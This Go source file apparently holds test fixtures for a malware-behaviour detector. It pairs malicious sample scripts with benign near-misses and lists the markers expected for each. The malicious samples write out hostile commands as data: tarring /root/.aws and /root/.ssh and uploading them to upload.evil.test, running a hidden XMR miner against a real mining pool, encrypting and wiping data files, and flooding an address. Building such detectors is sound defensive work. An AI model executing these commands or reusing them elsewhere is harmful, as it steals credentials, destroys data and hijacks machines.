package samples

import (
	"fmt"
	"strings"
)

// taken is the samples of what an intruder is after: the machine, and what is
// on it.
func taken() []Sample {
	hidden := script(`mkdir -p /tmp/.cache
cp /bin/actor /tmp/.cache/xmrig
exec /tmp/.cache/xmrig mine-xmr pool.supportxmr.com:3333
`)
	embedded := script("cp /bin/actor /tmp/svc\n/tmp/svc http-get http://api.honeygain.com/api/v1/devices\n")
	packed := script("tar cf /tmp/keys.tar /root/.aws /root/.ssh\n/bin/actor upload http://upload.evil.test/keys /tmp/keys.tar\n")
	pages := script("tar cf /tmp/www.tar /srv\n/bin/actor upload http://backup.example.test/www /tmp/www.tar\n")
	documents := script("exec /bin/actor encrypt /srv/testdata\n")
	backup := script("exec /bin/actor encrypt /srv/testdata copy\n")
	wiped := script("rm /srv/testdata/*\necho done\n")
	cache := script("mkdir -p /srv/cache\nfor i in $(seq 40); do : > /srv/cache/$i; done\nrm -r /srv/cache\n")
	for _, s := range []Spec{pages, documents, backup, wiped, cache} {
		for i := range 40 {
			s.Files[fmt.Sprintf("/srv/testdata/letter-%d.txt", i)] = strings.Repeat(fmt.Sprintf("Dear reader %d, all is well. ", i), 20)
		}
	}
	return []Sample{
		shows("proxyware/embedded", embedded, malicious, "api.honeygain.com"),
		nearly("proxyware/site", acts("http-get", "http://www.honeygain.com/")),

		shows("archive-upload/keys", packed, malicious, ".aws", "upload.evil.test"),
		nearly("archive-upload/web-files", pages),

		shows("ransom-encrypt/documents", documents, malicious, ".locked", "HOW_TO_DECRYPT"),
		shows("ransom-encrypt/bait", script("exec /bin/actor encrypt /root/Documents\n"), malicious, "/root/Documents/", ".locked"),
		nearly("ransom-encrypt/backup", backup),
		nearly("ransom-encrypt/bait-kept", script("cat /root/Documents/*.csv > /tmp/all\nmv /root/Documents /root/Papers\nexec /bin/actor encrypt /root/Papers copy\n")),

		shows("mass-wipe/data", wiped, malicious, "/srv/testdata/letter-"),
		nearly("mass-wipe/own-cache", cache),

		shows("env-exfil/json", acts("send-env"), harmless, "collect.example.test", "HOSTNAME"),
		nearly("env-exfil/own-name", acts("http-get", "http://telemetry.example.test/v1/start?host=me")),

		shows("spam-relay/many", acts("send-mail", "25"), bad, "user0@shop.example.test"),
		nearly("spam-relay/report", acts("send-mail", "2")),

		shows("resource-hijack/tuned", acts("tune"), malicious, "/dev/cpu/0/msr", "nr_hugepages"),
		nearly("resource-hijack/own-limits", acts("dial", "203.0.113.95:3333")),

		shows("mining-pool-dns/hidden", hidden, malicious, "pool.supportxmr.com", "connects there"),
		nearly("mining-pool-dns/other-name", acts("lookup", "supportxmr.com.example.test", "www.example.test")),

		shows("ddos-flood/datagrams", script("exec /bin/actor flood 203.0.113.90:80 30000\n"), malicious, "203.0.113.90:80"),
		nearly("ddos-flood/metrics", acts("flood", "statsd.example.test:8125", "400")),
	}
}
